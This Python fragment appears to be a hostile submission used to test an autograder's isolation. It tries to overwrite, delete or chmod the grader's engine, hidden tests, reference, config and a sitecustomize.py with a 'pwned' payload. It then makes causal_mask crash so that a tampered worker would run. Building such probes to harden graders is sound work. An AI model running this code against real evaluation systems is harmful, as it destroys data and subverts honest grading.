# Overwrite, delete or replace the grader's files (HOSTILE["grader_files"]: the engine, the hidden
# tests, the reference, the public cases the grader imports late, the config, run_autograder, and
# a sitecustomize.py in the grader's Python), then make causal_mask crash so that the grader
# starts a new worker (which would run a changed worker.py).
_EVIL = "raise SystemExit('pwned: the grader ran code of the submission')\n"
_TRIED = []


def _overwrite(path):
    for attempt in ("write", "replace", "unlink", "chmod"):
        try:
            if attempt == "write":
                with open(path, "w") as f:
                    f.write(_EVIL)
            elif attempt == "replace":
                with open(path + ".new", "w") as f:
                    f.write(_EVIL)
                os.replace(path + ".new", path)
            elif attempt == "unlink":
                os.unlink(path)
            else:
                os.chmod(path, 0)
            _TRIED.append(f"{attempt} {os.path.basename(path)}: done")
            return
        except OSError as e:
            _TRIED.append(f"{attempt} {os.path.basename(path)}: {type(e).__name__}")


_engine = os.path.dirname(os.path.abspath(sys.argv[0]))  # the worker's own scripts
for _path in [*(os.path.join(_engine, n) for n in ("worker.py", "worker_torch.py", "wire.py")),
              *HOSTILE["grader_files"]]:
    _overwrite(_path)


def causal_mask(T):
    os._exit(1)


raise RuntimeError("OVERWRITE " + "; ".join(_TRIED))
